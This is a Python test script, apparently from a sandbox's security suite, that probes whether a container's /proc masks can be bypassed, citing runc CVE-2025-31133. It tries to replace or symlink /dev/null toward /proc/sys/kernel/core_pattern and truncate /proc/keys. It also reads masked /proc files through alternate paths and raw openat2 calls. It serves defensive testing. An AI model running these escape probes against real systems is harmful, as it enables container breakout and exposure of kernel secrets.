# Takes the masks off /proc: replaces what they are made of (/dev/null and the empty folder), and reads behind
# them by other names of the same /proc, by openat2's ways of resolving, and by the process that put them up.
# hole: CVE-2025-31133 (runc): /dev/null replaced by a link made masks show and write what they were to hide
# stopped by: outer root, proc, identities
# expect: {"status": "ok", "stdout": "nothing\n", "stderr": ""}
import ctypes, errno, os, struct

libc = ctypes.CDLL(None, use_errno=True)
for path in ("/dev/null", "/run/empty", "/dev", "/proc/kallsyms", "/proc/keys"):
    for change in (
        lambda: os.unlink(path),
        lambda: os.rmdir(path),
        lambda: os.rename(path, "/tmp/away"),
        lambda: os.symlink("/proc/sys/kernel/core_pattern", path),
        lambda: os.replace("/work/main.py", path),
        lambda: os.chmod(path, 0o777),
        lambda: open(path + "/x", "w"),
        lambda: os.truncate(path, 0) if path.startswith("/proc") else os.chmod(path, 0),
    ):
        try:
            change()
            print("changed", path)
        except OSError as error:
            if error.errno not in (errno.EROFS, errno.EBUSY, errno.EPERM, errno.EACCES, errno.EEXIST, errno.ENOTDIR, errno.EISDIR, errno.EXDEV, errno.EINVAL):
                print(path, error)
null = os.stat("/dev/null")
if null.st_rdev != os.makedev(1, 3) or null.st_mode != 0o20666 or os.listdir("/run/empty"):
    print("what masks are made of:", null, os.listdir("/run/empty"))
names = [line.split()[4] for line in open("/proc/self/mountinfo") if line.split()[4].startswith("/proc/")]
if len(names) < 10:
    print("only", names)
for name in names:
    if name == "/proc/sys":
        continue
    for way in ("", "/proc/self/root", "/proc/thread-self/root", f"/proc/{os.getpid()}/root", "/proc/1/root", "/proc/self/cwd/..", "/proc/self/task/../..", "/dev/fd/../../.."):
        path = way + name
        try:
            if os.path.isdir(path):
                print(path, os.listdir(path)) if os.listdir(path) else None
            elif os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 1):
                print("read", path)
        except OSError:
            pass
    proc = os.open("/proc", os.O_RDONLY | os.O_DIRECTORY)
    for resolve in (0, 1, 2, 4, 8, 16, 32):  # not across mounts, no magic links, no links, beneath, in its root, cached
        how = struct.pack("QQQ", os.O_RDONLY | os.O_NONBLOCK, 0, resolve)
        file = libc.syscall(437, proc, name[6:].encode(), how, 24)
        if file >= 0:
            try:
                if os.read(file, 1):
                    print("read", name, "by way", resolve)
            except IsADirectoryError:
                if os.listdir(file):
                    print("listed", name, "by way", resolve)
            os.close(file)
    os.close(proc)
print("nothing")
